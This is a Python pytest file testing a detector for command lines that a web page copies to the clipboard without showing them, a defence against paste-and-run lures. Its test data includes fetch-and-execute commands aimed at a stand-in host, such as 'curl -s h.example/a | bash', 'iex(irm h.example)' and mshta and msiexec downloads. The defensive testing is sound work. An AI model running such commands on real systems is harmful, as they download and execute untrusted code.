"""Command lines that a page puts on the clipboard."""

from __future__ import annotations

import pytest

from gateway.extract.page.copied import unshown


@pytest.mark.parametrize("copied", [
    "powershell -w h -c iwr h.example/a", "C:\\Windows\\System32\\cmd.exe /c calc", "mshta https://h.example/a", "conhost --headless cmd /c calc",
    "wscript \\\\h.example\\s\\a.js", "\\\\h.example\\s\\a.exe", "curl -s h.example/a | bash", "bash -c 'id'", "sudo sh -c id", "%windir%\\explorer.exe x",
    "$a='x'; iex $a", "[Net.WebClient]::new()", "cmd /c start mshta h.example", "  msiexec /q /i https://h.example/a.msi", "iex(irm h.example)",
])
def test_commands(copied):
    assert unshown(copied, "Press Windows + R") and not unshown(copied, f"Type: {copied}\nand press Enter")


@pytest.mark.parametrize("copied", ["", "1234", "DE02 1203 0000 0000 2020 51", "https://h.example/page", "Dear all, we open at nine", "Bob Smith <b@h.example>",
                                    "pip install requests", "SELECT a FROM b", "C:\\Users\\bob\\report.pdf", "Notes on powershells"])
def test_other_texts(copied):
    assert not unshown(copied, "Copy")
